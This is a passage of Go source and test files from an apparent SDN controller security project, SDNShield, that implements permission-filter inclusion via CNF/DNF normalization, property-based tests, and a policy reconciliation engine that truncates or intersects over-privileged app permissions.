		return a.F.DisjointWith(x.F) || x.F.DisjointWith(a.F)
	default:
		// f ⊇ ¬g holds only when f covers its whole dimension.
		return a.F.Total()
	}
}

// literalsContradict reports whether two literals of one conjunctive
// clause cannot hold simultaneously (making the clause unsatisfiable).
func literalsContradict(a, b Literal) bool {
	if a.F.Dimension() != b.F.Dimension() {
		return false
	}
	switch {
	case !a.Neg && !b.Neg:
		return a.F.DisjointWith(b.F) || b.F.DisjointWith(a.F)
	case a.Neg && !b.Neg:
		// ¬f ∧ g = ∅ ⇔ g ⊆ f
		return a.F.Includes(b.F)
	case !a.Neg && b.Neg:
		return b.F.Includes(a.F)
	default:
		// ¬f ∧ ¬g: empty only if f ∪ g covers the dimension; conservative.
		return false
	}
}

// conjUnsatisfiable reports whether a conjunctive clause is empty
// (contains contradictory literals). Conservative: false when unsure.
func conjUnsatisfiable(x Clause) bool {
	for i := range x {
		if !x[i].Neg && x[i].F.Total() {
			continue
		}
		for j := i + 1; j < len(x); j++ {
			if literalsContradict(x[i], x[j]) {
				return true
			}
		}
		// A negated total literal is itself empty.
		if x[i].Neg && x[i].F.Total() {
			return true
		}
	}
	return false
}

// disjClauseIncludesConj implements Algorithm 1's step 2 on one pair: a
// disjunctive clause (from the left CNF) against a conjunctive clause
// (from the right DNF).
func disjClauseIncludesConj(a, x Clause) bool {
	// A clause containing a positive total literal admits everything.
	for _, lit := range a {
		if !lit.Neg && lit.F.Total() {
			return true
		}
	}
	// An unsatisfiable conjunction is the empty set, included in anything.
	if conjUnsatisfiable(x) {
		return true
	}
	for _, lit := range a {
		for _, xLit := range x {
			if literalIncludes(lit, xLit) {
				return true
			}
		}
	}
	return false
}

// Includes reports whether filter expression a includes (permits at least
// everything permitted by) filter expression b, per Algorithm 1. A nil
// expression is unrestricted. The result is conservative: false with a
// nil error means inclusion could not be established; ErrExprTooLarge
// signals the expressions exceeded the normalization budget.
func Includes(a, b Expr) (bool, error) {
	if a == nil {
		return true, nil
	}
	cnfA, err := ToCNF(a)
	if err != nil {
		return false, err
	}
	dnfB, err := ToDNF(b)
	if err != nil {
		return false, err
	}
	for _, clauseA := range cnfA {
		for _, clauseB := range dnfB {
			if !disjClauseIncludesConj(clauseA, clauseB) {
				return false, nil
			}
		}
	}
	return true, nil
}

// Equivalent reports mutual inclusion of two filter expressions.
func Equivalent(a, b Expr) (bool, error) {
	ab, err := Includes(a, b)
	if err != nil || !ab {
		return false, err
	}
	return Includes(b, a)
}
