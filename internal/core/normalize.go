package core

import (
	"errors"
	"fmt"
)

// Literal is a possibly-negated singleton filter — the atom of the CNF and
// DNF normal forms Algorithm 1 operates on.
type Literal struct {
	F   Filter
	Neg bool
}

// String renders the literal.
func (l Literal) String() string {
	if l.Neg {
		return "NOT " + l.F.String()
	}
	return l.F.String()
}

// Clause is a set of literals. In a CNF it is read as a disjunction; in a
// DNF as a conjunction.
type Clause []Literal

// ErrExprTooLarge reports that normalization exceeded the clause budget.
// Callers must treat the comparison conservatively (assume non-inclusion).
var ErrExprTooLarge = errors.New("core: normal form exceeds clause budget")

// maxClauses bounds CNF/DNF blow-up. Permission manifests carry tens of
// filters (the paper's "large" complexity is 15 tokens × 10–20 filters),
// far below this.
const maxClauses = 1 << 14

// ToCNF converts an expression into conjunctive normal form: a slice of
// disjunctive clauses. A nil expression yields an empty CNF (no
// constraint, always true).
func ToCNF(e Expr) ([]Clause, error) {
	if e == nil {
		return nil, nil
	}
	return normalToCNF(e, false)
}

// ToDNF converts an expression into disjunctive normal form: a slice of
// conjunctive clauses. A nil expression yields a DNF with a single empty
// clause (the always-true conjunction).
func ToDNF(e Expr) ([]Clause, error) {
	if e == nil {
		return []Clause{{}}, nil
	}
	return normalToDNF(e, false)
}

// normalToCNF computes CNF of e (negated when neg), pushing negation to
// the leaves (NNF) on the way down.
func normalToCNF(e Expr, neg bool) ([]Clause, error) {
	switch v := e.(type) {
	case *Leaf:
		return []Clause{{Literal{F: v.F, Neg: neg}}}, nil
	case *MacroRef:
		return nil, fmt.Errorf("core: unresolved macro %q in expression", v.Name)
	case *Not:
		return normalToCNF(v.X, !neg)
	case *And:
		if neg { // ¬(L∧R) = ¬L ∨ ¬R
			return cnfOfOr(v.L, v.R, true)
		}
		l, err := normalToCNF(v.L, false)
		if err != nil {
			return nil, err
		}
		r, err := normalToCNF(v.R, false)
		if err != nil {
			return nil, err
		}
		return boundedConcat(l, r)
	case *Or:
		if neg { // ¬(L∨R) = ¬L ∧ ¬R
			l, err := normalToCNF(v.L, true)
			if err != nil {
				return nil, err
			}
			r, err := normalToCNF(v.R, true)
			if err != nil {
				return nil, err
			}
			return boundedConcat(l, r)
		}
		return cnfOfOr(v.L, v.R, false)
	default:
		return nil, fmt.Errorf("core: unknown expression type %T", e)
	}
}

// cnfOfOr distributes (L ∨ R) over the CNFs of the operands.
func cnfOfOr(left, right Expr, neg bool) ([]Clause, error) {
	l, err := normalToCNF(left, neg)
	if err != nil {
		return nil, err
	}
	r, err := normalToCNF(right, neg)
	if err != nil {
		return nil, err
	}
	return boundedCross(l, r)
}

// normalToDNF computes DNF of e (negated when neg).
func normalToDNF(e Expr, neg bool) ([]Clause, error) {
	switch v := e.(type) {
	case *Leaf:
		return []Clause{{Literal{F: v.F, Neg: neg}}}, nil
	case *MacroRef:
		return nil, fmt.Errorf("core: unresolved macro %q in expression", v.Name)
	case *Not:
		return normalToDNF(v.X, !neg)
	case *Or:
		if neg { // ¬(L∨R) = ¬L ∧ ¬R
			return dnfOfAnd(v.L, v.R, true)
		}
		l, err := normalToDNF(v.L, false)
		if err != nil {
			return nil, err
		}
		r, err := normalToDNF(v.R, false)
		if err != nil {
			return nil, err
		}
		return boundedConcat(l, r)
	case *And:
		if neg { // ¬(L∧R) = ¬L ∨ ¬R
			l, err := normalToDNF(v.L, true)
			if err != nil {
				return nil, err
			}
			r, err := normalToDNF(v.R, true)
			if err != nil {
				return nil, err
			}
			return boundedConcat(l, r)
		}
		return dnfOfAnd(v.L, v.R, false)
	default:
		return nil, fmt.Errorf("core: unknown expression type %T", e)
	}
}

// dnfOfAnd distributes (L ∧ R) over the DNFs of the operands.
func dnfOfAnd(left, right Expr, neg bool) ([]Clause, error) {
	l, err := normalToDNF(left, neg)
	if err != nil {
		return nil, err
	}
	r, err := normalToDNF(right, neg)
	if err != nil {
		return nil, err
	}
	return boundedCross(l, r)
}

func boundedConcat(l, r []Clause) ([]Clause, error) {
	if len(l)+len(r) > maxClauses {
		return nil, ErrExprTooLarge
	}
	out := make([]Clause, 0, len(l)+len(r))
	out = append(out, l...)
	return append(out, r...), nil
}

func boundedCross(l, r []Clause) ([]Clause, error) {
	if len(l)*len(r) > maxClauses {
		return nil, ErrExprTooLarge
	}
	out := make([]Clause, 0, len(l)*len(r))
	for _, a := range l {
		for _, b := range r {
			merged := make(Clause, 0, len(a)+len(b))
			merged = append(merged, a...)
			merged = append(merged, b...)
			out = append(out, merged)
		}
	}
	return out, nil
}
