package core

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"

	"sdnshield/internal/of"
)

// genSet draws a random permission set over a fixed token population and
// the shared filter pool.
func genSet(r *rand.Rand) *Set {
	tokens := []Token{
		TokenInsertFlow, TokenReadFlowTable, TokenReadStatistics,
		TokenSendPktOut, TokenPktInEvent, TokenHostNetwork,
	}
	pool := filterPool()
	s := NewSet()
	n := 1 + r.Intn(len(tokens))
	for i := 0; i < n; i++ {
		tok := tokens[r.Intn(len(tokens))]
		var filter Expr
		if r.Intn(4) != 0 {
			filter = randomExpr(r, pool, 2)
		}
		s.Grant(tok, filter)
	}
	return s
}

// setPair is a quick.Generator producing two random sets and a call.
type setPair struct {
	a, b *Set
	call *Call
}

// Generate implements quick.Generator.
func (setPair) Generate(r *rand.Rand, _ int) reflect.Value {
	return reflect.ValueOf(setPair{a: genSet(r), b: genSet(r), call: randomFullCall(r)})
}

func TestQuickMeetIsLowerBound(t *testing.T) {
	// Any call allowed by A MEET B must be allowed by both A and B.
	f := func(p setPair) bool {
		meet := p.a.Meet(p.b)
		for _, tok := range []Token{TokenInsertFlow, TokenReadStatistics, TokenSendPktOut} {
			call := *p.call
			call.Token = tok
			if meet.Allows(&call) && (!p.a.Allows(&call) || !p.b.Allows(&call)) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 800}); err != nil {
		t.Error(err)
	}
}

func TestQuickJoinIsUpperBound(t *testing.T) {
	// Any call allowed by A or by B must be allowed by A JOIN B.
	f := func(p setPair) bool {
		join := p.a.Join(p.b)
		for _, tok := range []Token{TokenInsertFlow, TokenReadStatistics, TokenSendPktOut} {
			call := *p.call
			call.Token = tok
			if (p.a.Allows(&call) || p.b.Allows(&call)) && !join.Allows(&call) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 800}); err != nil {
		t.Error(err)
	}
}

func TestQuickMeetJoinIncludesAlgebra(t *testing.T) {
	// Algorithm 1 must certify the lattice bounds: A ⊇ A MEET B and
	// A JOIN B ⊇ A.
	f := func(p setPair) bool {
		meet := p.a.Meet(p.b)
		if inc, err := p.a.Includes(meet); err != nil || !inc {
			return false
		}
		join := p.a.Join(p.b)
		inc, err := join.Includes(p.a)
		return err == nil && inc
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Error(err)
	}
}

func TestQuickIncludesIsSoundOnSets(t *testing.T) {
	// If Includes claims A ⊇ B, no call may be allowed by B but denied by
	// A (the set-level version of the Algorithm 1 soundness property).
	f := func(p setPair, seed int64) bool {
		inc, err := p.a.Includes(p.b)
		if err != nil || !inc {
			return true // nothing claimed
		}
		r := rand.New(rand.NewSource(seed))
		for i := 0; i < 30; i++ {
			call := randomFullCall(r)
			for _, tok := range p.b.Tokens() {
				c := *call
				c.Token = tok
				if p.b.Allows(&c) && !p.a.Allows(&c) {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 600}); err != nil {
		t.Error(err)
	}
}

func TestQuickCloneIsEqual(t *testing.T) {
	f := func(p setPair) bool {
		c := p.a.Clone()
		eq, err := p.a.Equal(c)
		return err == nil && eq
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestQuickGrantMonotonic(t *testing.T) {
	// Granting more never shrinks the allowed set.
	f := func(p setPair) bool {
		wider := p.a.Clone()
		for _, perm := range p.b.Permissions() {
			wider.Grant(perm.Token, perm.Filter)
		}
		for _, tok := range p.a.Tokens() {
			call := *p.call
			call.Token = tok
			if p.a.Allows(&call) && !wider.Allows(&call) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 600}); err != nil {
		t.Error(err)
	}
}

func TestQuickMatchSubsumesSound(t *testing.T) {
	// of.Match.Subsumes soundness via quick-generated packets.
	f := func(dstA, dstB uint32, bitsA, bitsB uint8, port uint16, seed int64) bool {
		a := of.NewMatch().SetMasked(of.FieldIPDst, uint64(dstA), uint64(of.PrefixMask(int(bitsA%33))))
		b := of.NewMatch().
			SetMasked(of.FieldIPDst, uint64(dstB), uint64(of.PrefixMask(int(bitsB%33)))).
			Set(of.FieldTPDst, uint64(port))
		if !a.Subsumes(b) {
			return true
		}
		r := rand.New(rand.NewSource(seed))
		for i := 0; i < 20; i++ {
			pkt := of.NewTCPPacket(of.MAC{1}, of.MAC{2},
				of.IPv4(r.Uint32()), of.IPv4(dstB), uint16(r.Uint32()), port, 0)
			// Force the packet into b's region.
			v, m := b.Get(of.FieldIPDst)
			pkt.IPDst = of.IPv4((uint64(pkt.IPDst) &^ m) | v)
			inPort := uint16(r.Intn(8))
			if b.MatchesPacket(pkt, inPort) && !a.MatchesPacket(pkt, inPort) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}
