// Package reconcile implements SDNShield's security-policy reconciliation
// engine (§V-B): it expands administrator-supplied macro bindings into
// requested permission manifests, verifies every policy constraint
// (mutual exclusion and permission boundaries), and — on violation —
// produces repaired permissions for the administrator's review, by
// truncating mutually-exclusive grants and intersecting boundary
// overruns with their boundary.
package reconcile

import (
	"errors"
	"fmt"

	"sdnshield/internal/core"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
)

// TruncateSide selects which operand of a violated mutual exclusion is
// revoked.
type TruncateSide int

// Truncation preferences.
const (
	// TruncateSecond revokes the second operand's permissions, matching
	// the paper's Scenario 1 (insert_flow, the second operand, is cut).
	TruncateSecond TruncateSide = iota
	// TruncateFirst revokes the first operand's permissions instead.
	TruncateFirst
)

// ViolationKind classifies constraint violations.
type ViolationKind int

// Violation kinds.
const (
	// ViolationMutualExclusion reports both sides of an EITHER/OR held.
	ViolationMutualExclusion ViolationKind = iota + 1
	// ViolationBoundary reports a failed permission-boundary assertion.
	ViolationBoundary
	// ViolationUnresolvedMacro reports a stub with no LET binding.
	ViolationUnresolvedMacro
	// ViolationUnknownReference reports an unbound variable or app.
	ViolationUnknownReference
)

// String names the violation kind.
func (k ViolationKind) String() string {
	switch k {
	case ViolationMutualExclusion:
		return "mutual-exclusion"
	case ViolationBoundary:
		return "permission-boundary"
	case ViolationUnresolvedMacro:
		return "unresolved-macro"
	case ViolationUnknownReference:
		return "unknown-reference"
	default:
		return fmt.Sprintf("violation(%d)", int(k))
	}
}

// Violation describes one detected policy violation and the repair the
// engine applied (empty when no automatic repair exists).
type Violation struct {
	Kind       ViolationKind
	Constraint string
	Detail     string
	Repair     string
}

// String renders the violation for administrator alerts.
func (v Violation) String() string {
	s := fmt.Sprintf("[%s] %s: %s", v.Kind, v.Constraint, v.Detail)
	if v.Repair != "" {
		s += " (repaired: " + v.Repair + ")"
	}
	return s
}

// Result is the outcome of reconciling one app's manifest against a
// policy.
type Result struct {
	// App is the app under reconciliation.
	App string
	// Requested is the manifest's permission set after macro expansion but
	// before any repair.
	Requested *core.Set
	// Reconciled is the final permission set offered to the administrator.
	Reconciled *core.Set
	// Violations lists every detected violation in evaluation order.
	Violations []Violation
	// Clean reports whether the manifest satisfied the policy outright.
	Clean bool
}

// Engine reconciles permission manifests against security policies. It
// holds a registry of already-approved app permissions so that policies
// can reference them with APP bindings.
type Engine struct {
	truncate TruncateSide
	apps     map[string]*core.Set
}

// Option configures an Engine.
type Option func(*Engine)

// WithTruncateSide selects the mutual-exclusion repair preference.
func WithTruncateSide(side TruncateSide) Option {
	return func(e *Engine) { e.truncate = side }
}

// New builds a reconciliation engine.
func New(opts ...Option) *Engine {
	e := &Engine{apps: make(map[string]*core.Set)}
	for _, opt := range opts {
		opt(e)
	}
	return e
}

// RegisterApp records an app's (already reconciled) permissions so that
// policies can reference them via APP name.
func (e *Engine) RegisterApp(name string, set *core.Set) {
	e.apps[name] = set.Clone()
}

// errUnknownRef marks resolution failures inside permission expressions.
type unknownRefError struct {
	what string
}

func (err *unknownRefError) Error() string { return "unknown reference " + err.what }

// env is the evaluation environment of one reconciliation run.
type env struct {
	engine  *Engine
	app     string
	working *core.Set
	// macroFilters maps LET-bound filter macros.
	macroFilters map[string]core.Expr
	// permVars maps LET-bound permission expressions (lazily resolved).
	permVars map[string]policylang.PermExpr
	// resolving guards against circular LET references.
	resolving map[string]bool
}

// resolvePerm evaluates a permission expression to a concrete set.
// refersToApp reports whether the expression denotes the app under
// reconciliation (so boundary repairs know what to intersect).
func (ev *env) resolvePerm(pe policylang.PermExpr) (set *core.Set, refersToApp bool, err error) {
	switch v := pe.(type) {
	case *policylang.PermLit:
		return ev.expandSet(v.Set), false, nil
	case *policylang.PermApp:
		if v.AppName == ev.app {
			return ev.working, true, nil
		}
		if s, ok := ev.engine.apps[v.AppName]; ok {
			return s, false, nil
		}
		return nil, false, &unknownRefError{what: "APP " + v.AppName}
	case *policylang.PermVar:
		if bound, ok := ev.permVars[v.Name]; ok {
			if ev.resolving[v.Name] {
				return nil, false, &unknownRefError{what: "circular binding " + v.Name}
			}
			ev.resolving[v.Name] = true
			defer delete(ev.resolving, v.Name)
			return ev.resolvePerm(bound)
		}
		// An unbound variable naming the app under reconciliation denotes
		// its manifest (the paper's monitorAppPerm idiom resolves this way
		// when no explicit APP binding is given).
		if v.Name == ev.app {
			return ev.working, true, nil
		}
		return nil, false, &unknownRefError{what: "variable " + v.Name}
	case *policylang.PermMeet:
		l, la, err := ev.resolvePerm(v.L)
		if err != nil {
			return nil, false, err
		}
		r, ra, err := ev.resolvePerm(v.R)
		if err != nil {
			return nil, false, err
		}
		return l.Meet(r), la || ra, nil
	case *policylang.PermJoin:
		l, la, err := ev.resolvePerm(v.L)
		if err != nil {
			return nil, false, err
		}
		r, ra, err := ev.resolvePerm(v.R)
		if err != nil {
			return nil, false, err
		}
		return l.Join(r), la || ra, nil
	default:
		return nil, false, fmt.Errorf("reconcile: unknown permission expression %T", pe)
	}
}

// expandSet substitutes filter macros inside a literal permission set.
func (ev *env) expandSet(s *core.Set) *core.Set {
	out := core.NewSet()
	for _, p := range s.Permissions() {
		expr, _ := core.SubstituteMacros(p.Filter, ev.macroFilters)
		out.Grant(p.Token, expr)
	}
	return out
}

// Reconcile expands, verifies and repairs one app manifest against the
// policy. It never returns an error for policy violations — those are
// reported in the Result — only for malformed inputs.
func (e *Engine) Reconcile(appName string, manifest *permlang.Manifest, policy *policylang.Policy) (*Result, error) {
	if manifest == nil {
		return nil, errors.New("reconcile: nil manifest")
	}
	ev := &env{
		engine:       e,
		app:          appName,
		macroFilters: make(map[string]core.Expr),
		permVars:     make(map[string]policylang.PermExpr),
		resolving:    make(map[string]bool),
	}
	if policy != nil {
		for _, let := range policy.Bindings() {
			if let.Filter != nil {
				ev.macroFilters[let.Name] = let.Filter
			} else {
				ev.permVars[let.Name] = let.Perm
			}
		}
	}

	result := &Result{App: appName}

	// Step 1: macro preprocessing (§V-B "permission customization").
	working := core.NewSet()
	for _, p := range manifest.Permissions {
		expr, missing := core.SubstituteMacros(p.Filter, ev.macroFilters)
		for _, name := range missing {
			result.Violations = append(result.Violations, Violation{
				Kind:       ViolationUnresolvedMacro,
				Constraint: p.String(),
				Detail:     fmt.Sprintf("macro %q has no LET binding; the permission will deny at runtime", name),
			})
		}
		working.Grant(p.Token, expr)
	}
	result.Requested = working.Clone()
	ev.working = working

	// Step 2: evaluate constraints in order, repairing as we go so later
	// constraints see earlier repairs (matching the paper's sequential
	// reconciliation).
	if policy != nil {
		for _, stmt := range policy.Constraints() {
			switch c := stmt.(type) {
			case *policylang.AssertExclusive:
				e.checkExclusive(ev, c, result)
			case *policylang.AssertBool:
				e.checkBool(ev, c, result)
			}
		}
	}

	result.Reconciled = ev.working
	result.Clean = len(result.Violations) == 0
	auditReconcile(result)
	return result, nil
}

// auditReconcile records a reconciliation verdict in the forensic journal.
func auditReconcile(result *Result) {
	if !audit.On() {
		return
	}
	ev := audit.Event{
		Kind:    audit.KindReconcile,
		Verdict: audit.VerdictClean,
		App:     result.App,
	}
	if !result.Clean {
		ev.Verdict = audit.VerdictViolation
		ev.Detail = fmt.Sprintf("%d violations; first: %s",
			len(result.Violations), result.Violations[0].String())
	}
	audit.Emit(ev)
}

// checkExclusive enforces one mutual-exclusion constraint against the
// working set, truncating on violation.
func (e *Engine) checkExclusive(ev *env, c *policylang.AssertExclusive, result *Result) {
	aSet, _, errA := ev.resolvePerm(c.A)
	bSet, _, errB := ev.resolvePerm(c.B)
	if errA != nil || errB != nil {
		err := errA
		if err == nil {
			err = errB
		}
		result.Violations = append(result.Violations, Violation{
			Kind: ViolationUnknownReference, Constraint: c.String(), Detail: err.Error(),
		})
		return
	}
	heldA := heldTokens(ev.working, aSet)
	heldB := heldTokens(ev.working, bSet)
	if len(heldA) == 0 || len(heldB) == 0 {
		return
	}
	// Violated: the app holds permissions from both sides. Truncate.
	cut := heldB
	if e.truncate == TruncateFirst {
		cut = heldA
	}
	for _, t := range cut {
		ev.working.Revoke(t)
	}
	result.Violations = append(result.Violations, Violation{
		Kind:       ViolationMutualExclusion,
		Constraint: c.String(),
		Detail: fmt.Sprintf("app holds %s and %s simultaneously",
			tokenList(heldA), tokenList(heldB)),
		Repair: "revoked " + tokenList(cut),
	})
}

// checkBool evaluates one boundary assertion, repairing the canonical
// "app <= boundary" shape by intersection.
func (e *Engine) checkBool(ev *env, c *policylang.AssertBool, result *Result) {
	ok, repair, err := e.evalBool(ev, c.Expr)
	if err != nil {
		result.Violations = append(result.Violations, Violation{
			Kind: ViolationUnknownReference, Constraint: c.String(), Detail: err.Error(),
		})
		return
	}
	if ok {
		return
	}
	v := Violation{
		Kind:       ViolationBoundary,
		Constraint: c.String(),
		Detail:     "requested permissions exceed the asserted boundary",
	}
	if repair != nil {
		ev.working = ev.working.Meet(repair)
		v.Repair = "intersected requested permissions with the boundary"
	}
	result.Violations = append(result.Violations, v)
}

// evalBool evaluates a boolean assertion. When the assertion is a plain
// violated boundary of the app under reconciliation (app <= B or B >=
// app), it returns the boundary set as the suggested repair.
func (e *Engine) evalBool(ev *env, be policylang.BoolExpr) (ok bool, repair *core.Set, err error) {
	switch v := be.(type) {
	case *policylang.CmpExpr:
		return e.evalCmp(ev, v)
	case *policylang.BoolAnd:
		lOK, lRep, err := e.evalBool(ev, v.L)
		if err != nil {
			return false, nil, err
		}
		rOK, rRep, err := e.evalBool(ev, v.R)
		if err != nil {
			return false, nil, err
		}
		// Repair is only offered when exactly one conjunct is a repairable
		// boundary failure.
		switch {
		case lOK && rOK:
			return true, nil, nil
		case lOK && !rOK:
			return false, rRep, nil
		case !lOK && rOK:
			return false, lRep, nil
		default:
			return false, nil, nil
		}
	case *policylang.BoolOr:
		lOK, _, err := e.evalBool(ev, v.L)
		if err != nil {
			return false, nil, err
		}
		rOK, _, err := e.evalBool(ev, v.R)
		if err != nil {
			return false, nil, err
		}
		return lOK || rOK, nil, nil
	case *policylang.BoolNot:
		ok, _, err := e.evalBool(ev, v.X)
		if err != nil {
			return false, nil, err
		}
		return !ok, nil, nil
	default:
		return false, nil, fmt.Errorf("reconcile: unknown assertion %T", be)
	}
}

func (e *Engine) evalCmp(ev *env, c *policylang.CmpExpr) (bool, *core.Set, error) {
	lSet, lApp, err := ev.resolvePerm(c.L)
	if err != nil {
		return false, nil, err
	}
	rSet, rApp, err := ev.resolvePerm(c.R)
	if err != nil {
		return false, nil, err
	}
	le := func() (bool, error) { return rSet.Includes(lSet) } // L <= R
	ge := func() (bool, error) { return lSet.Includes(rSet) } // L >= R

	switch c.Op {
	case policylang.CmpLe:
		ok, err := le()
		if err != nil {
			return false, nil, err
		}
		if !ok && lApp && !rApp {
			return false, rSet, nil // repair: app MEET boundary
		}
		return ok, nil, nil
	case policylang.CmpGe:
		ok, err := ge()
		if err != nil {
			return false, nil, err
		}
		if !ok && rApp && !lApp {
			return false, lSet, nil
		}
		return ok, nil, nil
	case policylang.CmpLt:
		lr, err := le()
		if err != nil {
			return false, nil, err
		}
		rl, err := ge()
		if err != nil {
			return false, nil, err
		}
		if !lr && lApp && !rApp {
			return false, rSet, nil
		}
		return lr && !rl, nil, nil
	case policylang.CmpGt:
		lr, err := le()
		if err != nil {
			return false, nil, err
		}
		rl, err := ge()
		if err != nil {
			return false, nil, err
		}
		if !rl && rApp && !lApp {
			return false, lSet, nil
		}
		return rl && !lr, nil, nil
	case policylang.CmpEq:
		eq, err := lSet.Equal(rSet)
		if err != nil {
			return false, nil, err
		}
		return eq, nil, nil
	default:
		return false, nil, fmt.Errorf("reconcile: unknown comparison %v", c.Op)
	}
}

// heldTokens returns the tokens of ref that the working set also holds.
func heldTokens(working, ref *core.Set) []core.Token {
	var out []core.Token
	for _, t := range ref.Tokens() {
		if working.Has(t) {
			out = append(out, t)
		}
	}
	return out
}

func tokenList(tokens []core.Token) string {
	s := ""
	for i, t := range tokens {
		if i > 0 {
			s += ", "
		}
		s += t.String()
	}
	return s
}
