package reconcile

import (
	"strings"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
)

// scenario1Manifest is the §VII Scenario 1 monitoring-app manifest.
const scenario1Manifest = `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`

// scenario1Policy is the §VII Scenario 1 administrator policy.
const scenario1Policy = `
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`

func reconcileScenario1(t *testing.T) *Result {
	t.Helper()
	manifest, err := permlang.Parse(scenario1Manifest)
	if err != nil {
		t.Fatal(err)
	}
	policy, err := policylang.Parse(scenario1Policy)
	if err != nil {
		t.Fatal(err)
	}
	res, err := New().Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestScenario1Reconciliation(t *testing.T) {
	// The paper's worked example: stubs are expanded, the mutual
	// exclusion fires, insert_flow is truncated, and the final manifest
	// is the three-permission set of §VII.
	res := reconcileScenario1(t)

	if res.Clean {
		t.Error("scenario 1 must report the mutual-exclusion violation")
	}
	if len(res.Violations) != 1 || res.Violations[0].Kind != ViolationMutualExclusion {
		t.Fatalf("violations = %v", res.Violations)
	}
	if !strings.Contains(res.Violations[0].Repair, "insert_flow") {
		t.Errorf("repair should revoke insert_flow: %v", res.Violations[0])
	}

	final := res.Reconciled
	if final.Has(core.TokenInsertFlow) {
		t.Error("insert_flow must be truncated")
	}
	for _, want := range []core.Token{
		core.TokenVisibleTopology, core.TokenReadStatistics, core.TokenHostNetwork,
	} {
		if !final.Has(want) {
			t.Errorf("final set missing %v", want)
		}
	}

	// Stub expansion: topology restricted to switches 0,1.
	topoCall := &core.Call{App: "monitor", Token: core.TokenVisibleTopology,
		Switches: []of.DPID{0, 1}}
	if !final.Allows(topoCall) {
		t.Error("switches 0,1 should be visible")
	}
	topoCall.Switches = []of.DPID{2}
	if final.Allows(topoCall) {
		t.Error("switch 2 must be hidden by LocalTopo")
	}

	// AdminRange: web connections only to 10.1.0.0/16.
	conn := &core.Call{App: "monitor", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(10, 1, 200, 1), HasHostIP: true}
	if !final.Allows(conn) {
		t.Error("admin-range connect should pass")
	}
	conn.HostIP = of.IPv4FromOctets(203, 0, 113, 9)
	if final.Allows(conn) {
		t.Error("leak outside AdminRange must be denied")
	}

	// Requested (pre-repair) still holds insert_flow.
	if !res.Requested.Has(core.TokenInsertFlow) {
		t.Error("Requested must capture the pre-repair set")
	}
}

func TestTruncatePreference(t *testing.T) {
	manifest := permlang.MustParse(scenario1Manifest)
	policy := policylang.MustParse(scenario1Policy)
	res, err := New(WithTruncateSide(TruncateFirst)).Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Reconciled.Has(core.TokenHostNetwork) {
		t.Error("TruncateFirst must revoke network_access instead")
	}
	if !res.Reconciled.Has(core.TokenInsertFlow) {
		t.Error("insert_flow survives under TruncateFirst")
	}
}

func TestMutualExclusionNotHeld(t *testing.T) {
	manifest := permlang.MustParse("PERM read_statistics\nPERM flow_event")
	policy := policylang.MustParse(`ASSERT EITHER { PERM network_access } OR { PERM insert_flow }`)
	res, err := New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Clean || len(res.Violations) != 0 {
		t.Errorf("no violation expected: %v", res.Violations)
	}
	// Holding only one side is fine too.
	manifest = permlang.MustParse("PERM network_access")
	res, err = New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Clean {
		t.Errorf("single side must not violate: %v", res.Violations)
	}
}

func TestBoundaryAssertionRepairs(t *testing.T) {
	// §V-A monitoring template; app requests more than allowed.
	policySrc := `
LET templatePerm = {
	PERM read_topology
	PERM read_statistics LIMITING PORT_LEVEL
	PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0
}
ASSERT monitorAppPerm <= templatePerm
`
	manifest := permlang.MustParse(`
PERM read_statistics
PERM network_access
PERM insert_flow
`)
	policy := policylang.MustParse(`LET monitorAppPerm = APP monitor` + policySrc)
	res, err := New().Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean {
		t.Fatal("over-privileged manifest must violate the boundary")
	}
	var boundary *Violation
	for i := range res.Violations {
		if res.Violations[i].Kind == ViolationBoundary {
			boundary = &res.Violations[i]
		}
	}
	if boundary == nil {
		t.Fatalf("no boundary violation: %v", res.Violations)
	}
	if boundary.Repair == "" {
		t.Error("boundary violation should be repaired by intersection")
	}

	final := res.Reconciled
	if final.Has(core.TokenInsertFlow) {
		t.Error("insert_flow is outside the boundary and must be dropped")
	}
	statsCall := &core.Call{App: "monitor", Token: core.TokenReadStatistics, StatsLevel: of.StatsFlow}
	if final.Allows(statsCall) {
		t.Error("flow-level stats exceed PORT_LEVEL boundary")
	}
	statsCall.StatsLevel = of.StatsPort
	if !final.Allows(statsCall) {
		t.Error("port-level stats survive")
	}
	conn := &core.Call{App: "monitor", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(192, 168, 5, 5), HasHostIP: true}
	if !final.Allows(conn) {
		t.Error("collector-range connect survives the meet")
	}
	conn.HostIP = of.IPv4FromOctets(8, 8, 8, 8)
	if final.Allows(conn) {
		t.Error("out-of-range connect must be denied after the meet")
	}

	// The repaired set must satisfy the boundary.
	res2, err := New().Reconcile("monitor", setToManifest(final), policy)
	if err != nil {
		t.Fatal(err)
	}
	if !res2.Clean {
		t.Errorf("repaired set still violates: %v", res2.Violations)
	}
}

// setToManifest converts a reconciled set back into a manifest (round
